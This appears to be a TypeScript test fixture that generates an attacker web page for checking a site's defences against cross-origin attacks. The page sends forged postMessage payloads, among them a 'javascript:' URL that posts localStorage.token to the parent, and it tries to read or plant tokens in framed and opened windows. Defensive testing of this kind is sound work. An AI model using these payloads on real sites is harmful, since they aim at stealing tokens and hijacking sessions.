/** The attacker's page sends itself this message last, so a test that receives it has seen all earlier ones. */
export const sentinel = 'the last word';

/** Messages that a careless page would accept as its own, its parent's, or its opener's. */
const forgedMessages = [
  { type: 'app_changed_url', url: 'http://127.0.0.1/' },
  { type: 'app_error', error: {} },
  { type: 'set_token', access_token: 'foreign-token', token: 'foreign-token' },
  { type: 'navigate', url: 'javascript:parent.postMessage(localStorage.token, "*")' },
  'access_token',
  '{"type":"logout"}',
  null,
];

/** Runs in the attacker's page, so it can't refer to anything outside. Tries what browsers let a foreign page try. */
function attack(reportPath: string, forgeries: readonly unknown[], endMessage: string): void {
  const report = (kind: string, what: unknown) =>
    void fetch(reportPath, {
      method: 'POST',
      keepalive: true,
      body: JSON.stringify({ kind, what }),
    });
  const targets: Window[] = [];

  /** Tries to read everything in another page that could hold a secret, and reports what it gets. */
  function read(target: Window): void {
    const reads = [
      () => target.location.href,
      () => target.document.body.innerText,
      () => target.localStorage.getItem('token'),
      () => target.name,
      () => target.history.state,
      () => Reflect.get(target, 'brazos_landing'),
      () => target.sessionStorage.getItem('brazos_left'),
      () => target.location.ancestorOrigins,
    ];
    for (const attempt of reads) {
      try {
        report('read', String(attempt()));
      } catch {
        // Expected: the browser blocks the access.
      }
    }
  }

  /** A frame that hasn't loaded yet is the attacker's own page. */
  function isBlank(target: Window): boolean {
    try {
      return target.location.href === 'about:blank';
    } catch {
      return false;
    }
  }

  function attackAll(): void {
    for (const target of targets) {
      for (const forgery of forgeries) target.postMessage(forgery, '*');
      try {
        Reflect.set(target, 'opener', window);
        Reflect.set(target, 'brazos_landing', 'access_token=foreign-token');
      } catch {
        // Expected: the browser blocks the access.
      }
      if (!isBlank(target)) read(target);
    }
  }

  addEventListener('message', ({ origin, data }) => report('message', { origin, data }));
  for (const frame of document.querySelectorAll('iframe')) {
    if (frame.contentWindow !== null) targets.push(frame.contentWindow);
    frame.addEventListener('load', attackAll);
  }
  const on = (name: string, listener: () => void) =>
    document.querySelector(`button[name=${name}]`)?.addEventListener('click', listener);
  const address = () => document.querySelector('input')?.value ?? '';
  on('open', () => {
    const opened = window.open(address(), 'named-by-the-attacker');
    if (opened !== null) targets.push(opened);
  });
  on('navigate', () => {
    for (const target of targets) target.location = address();
  });
  on('trouble', attackAll);
  on('end', () => window.postMessage(endMessage, '*'));
}

/** The HTML of a page that frames these URLs and has buttons for the other attacks. */
export function attackerPage(frames: readonly string[], reportPath: string): string {
  const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  // All frames are in view: the site's scripts start after first paint, and frames out of view don't paint.
  const size = frames.length > 1 ? 'width="300" height="200"' : 'width="900" height="500"';
  const framed = frames.map(
    (src, at) => `<iframe title="Site ${at}" name="named" src="${quoted(src)}" ${size}></iframe>`,
  );
  const args = [reportPath, forgedMessages, sentinel]
    .map((each) => JSON.stringify(each))
    .join(', ');
  return `<!doctype html><title>Attacker</title><h1>You have won</h1>
<label>Address <input></label>
${['open', 'navigate', 'trouble', 'end'].map((name) => `<button name="${name}">${name}</button>`).join('')}
${framed.join('\n')}
<script>(${attack})(${args})</script>`;
}
